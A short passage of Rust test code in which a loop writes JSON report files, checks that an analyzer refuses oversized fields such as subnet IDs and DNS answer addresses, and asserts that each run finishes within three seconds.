        (subnets, "facts.endpoints.Ok[0].subnet_ids"),
        (answers, "facts.probes.dns.a.answer.addresses"),
    ] {
        let file = dir.write("r.json", serde_json::to_string(&r).expect("serialize"));
        let run = analyze(&[&file]);
        run.refused(path);
        assert!(run.took < Duration::from_secs(3), "{path}: {:?}", run.took);
    }
}
